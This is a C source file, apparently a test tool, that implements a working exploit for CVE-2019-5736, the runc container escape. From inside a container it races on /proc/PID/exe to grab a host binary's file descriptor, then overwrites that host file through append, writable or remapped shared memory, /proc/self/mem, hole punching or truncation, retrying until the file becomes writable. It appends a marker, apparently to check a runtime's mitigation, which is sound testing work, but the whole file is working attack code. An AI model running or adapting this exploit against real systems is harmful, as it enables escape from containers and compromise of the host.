/* The attacker of CVE-2019-5736, run inside a container as one of its processes: it spins
 * on open("/proc/PID/exe", O_PATH) for every new pid of the container; whatever it catches
 * that is not one of the container's binaries (the host's binary that a join exec'd by
 * way of /proc/self/exe) it keeps, waits until nothing runs it any more, reopens it for
 * writing through /proc/self/fd and appends a marker. It stops after SECONDS or when the
 * file "stop" in its cwd appears, and prints what it did:
 *   caught PATH        an exe fd of a process that ran PATH (not a container file)
 *   wrote PATH         the host file was overwritten: the attack won (by write(2), or where
 *                      that is refused by a shared writable map, a punched hole or a
 *                      truncation: "wrote PATH (HOW)")
 *   refused PATH ERR   reopening or writing it failed, every way (ERR: write's errno name)
 * With a third argument "patient", a refusal (EROFS, EPERM) is not final: the write is tried
 * again every 100 ms, for the day the host makes the file writable again (an update that
 * remounts it read-write or lifts its immutable flag); "refused" is then said once a file.
 * Usage: exe_race SECONDS MARKER [patient] (static: the container has no libc). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <stdint.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_CAUGHT 64

struct caught {
	int fd;
	pid_t pid;
	char path[256];
	int done;
	int said; /* patient: its refusal was printed */
};

static struct caught caught[MAX_CAUGHT];
static int ncaught;
static struct stat own[2]; /* the container's binaries: /bin/busybox and this one */
static int patient;

static int is_own(const struct stat *st)
{
	for (int i = 0; i < 2; i++)
		if (st->st_dev == own[i].st_dev && st->st_ino == own[i].st_ino)
			return 1;
	return 0;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static const char *errname(int err)
{
	switch (err) {
	case EPERM: return "EPERM";
	case EACCES: return "EACCES";
	case EROFS: return "EROFS";
	case ETXTBSY: return "ETXTBSY";
	case ENOENT: return "ENOENT";
	default: return "other";
	}
}

/* A process's exe that is not a file of the container's root file system. */
static void try_pid(pid_t pid)
{
	char proc[64], link[64];
	struct stat st;
	int fd;

	snprintf(proc, sizeof(proc), "/proc/%d/exe", (int)pid);
	fd = open(proc, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	if (fstat(fd, &st) < 0 || is_own(&st) || ncaught == MAX_CAUGHT) {
		close(fd);
		return;
	}
	for (int i = 0; i < ncaught; i++) {
		if (caught[i].pid == pid) {
			close(fd);
			return;
		}
	}
	caught[ncaught].fd = fd;
	caught[ncaught].pid = pid;
	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	ssize_t n = readlink(link, caught[ncaught].path, sizeof(caught[ncaught].path) - 1);
	caught[ncaught].path[n > 0 ? n : 0] = '\0';
	printf("caught %s\n", caught[ncaught].path);
	fflush(stdout);
	ncaught++;
}

/* A read-only shared map of fd made writable (mprotect), else written through
 * /proc/self/mem (which writes a shared map only where it could be made writable). */
static const char *write_through_map(int fd)
{
	const char *how = NULL;
	char *p = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
	char c;
	int mem;

	if (p == MAP_FAILED)
		return NULL;
	c = (char)(p[0] ^ 0x5a);
	if (mprotect(p, 4096, PROT_READ | PROT_WRITE) == 0) {
		p[0] = c;
		how = "a read-only shared map made writable";
	} else if ((mem = open("/proc/self/mem", O_RDWR | O_CLOEXEC)) >= 0) {
		if (pwrite(mem, &c, 1, (off_t)(uintptr_t)p) == 1 && p[0] == c)
			how = "/proc/self/mem on a read-only shared map";
		close(mem);
	}
	munmap(p, 4096);
	return how;
}

/* Where write(2) was refused (a sealed memfd: EPERM), the other ways to change the file
 * through a new fd of it: how one succeeded, or NULL. */
static const char *write_otherwise(const char *link)
{
	const char *how = NULL;
	int fd = open(link, O_RDWR | O_CLOEXEC);
	char *p;

	if (fd < 0)
		return NULL;
	p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (p != MAP_FAILED) {
		p[0] ^= 0x5a;
		munmap(p, 4096);
		how = "a shared writable map";
	} else if ((how = write_through_map(fd)) == NULL) {
		if (fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4096) == 0)
			how = "a punched hole";
		else if (ftruncate(fd, 1) == 0)
			how = "truncated";
	}
	close(fd);
	return how;
}

/* Once its process is gone (ETXTBSY otherwise), the file is reopened for writing. */
static void try_write(struct caught *c, const char *marker)
{
	char link[64];
	const char *how;
	int fd, err;

	if (c->done || kill(c->pid, 0) == 0)
		return;
	snprintf(link, sizeof(link), "/proc/self/fd/%d", c->fd);
	fd = open(link, O_WRONLY | O_APPEND | O_CLOEXEC);
	if (fd < 0 && errno == ETXTBSY)
		return; /* still executed by someone: try again later */
	if (fd >= 0 && write(fd, marker, strlen(marker)) == (ssize_t)strlen(marker)) {
		printf("wrote %s\n", c->path);
		c->done = 1;
	} else if (err = errno, fd >= 0 && (how = write_otherwise(link)) != NULL) {
		printf("wrote %s (%s)\n", c->path, how);
		c->done = 1;
	} else {
		if (!c->said)
			printf("refused %s %s\n", c->path, errname(err));
		c->said = 1;
		c->done = !patient;
	}
	fflush(stdout);
	if (fd >= 0)
		close(fd);
}

static pid_t max_pid(void)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	pid_t max = 1;

	while (d && (e = readdir(d)) != NULL) {
		pid_t p = (pid_t)atoi(e->d_name);
		if (p > max)
			max = p;
	}
	if (d)
		closedir(d);
	return max;
}

int main(int argc, char **argv)
{
	double end, last = 0;
	pid_t next;

	patient = argc == 4 && strcmp(argv[3], "patient") == 0;
	if ((argc != 3 && !patient) || stat("/bin/busybox", &own[0]) < 0 ||
	    stat("/proc/self/exe", &own[1]) < 0)
		return 2;
	end = now() + atof(argv[1]);
	next = max_pid() + 1;
	printf("ready\n");
	fflush(stdout);
	while (now() < end && access("stop", F_OK) != 0) {
		/* The next pids of the container, as they appear. */
		for (pid_t p = next; p < next + 16; p++)
			try_pid(p);
		if (!patient || now() - last > 0.1) {
			last = now();
			for (int i = 0; i < ncaught; i++)
				try_write(&caught[i], argv[2]);
		}
		if (next + 8 < max_pid())
			next = max_pid() - 8;
	}
	/* What was caught but whose process still ran: one last try. */
	for (int i = 0; i < ncaught; i++)
		try_write(&caught[i], argv[2]);
	return 0;
}
